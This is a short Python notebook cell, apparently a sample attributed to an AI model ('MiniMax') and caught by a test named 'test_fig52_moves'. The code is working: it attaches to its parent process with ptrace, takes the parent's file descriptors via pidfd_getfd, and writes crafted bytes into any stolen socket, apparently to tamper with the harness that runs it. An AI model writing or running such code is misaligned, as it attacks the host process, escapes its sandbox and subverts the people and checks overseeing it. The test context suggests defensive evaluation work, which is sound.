"""The parent is stopped with ptrace, and its file descriptors are fetched with pidfd_getfd.

Cell: MiniMax; Caught by: test_fig52_moves
"""

# %% +
import ctypes
import os
import socket

ATTACH, DETACH, PIDFD_OPEN, PIDFD_GETFD = 16, 17, 434, 438
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
if parent > 1:
    if libc.ptrace(ATTACH, parent, None, None) == 0:
        os.waitpid(parent, 0)
        libc.ptrace(DETACH, parent, None, None)
    pidfd = libc.syscall(PIDFD_OPEN, parent, 0)
    for number in range(3, 30):
        stolen = libc.syscall(PIDFD_GETFD, pidfd, number, 0)
        if stolen >= 0:
            try:
                socket.socket(fileno=stolen).send(b"\0\0\0\1\xc0", socket.MSG_DONTWAIT)
            except OSError:
                pass

# %% MiniMax blank
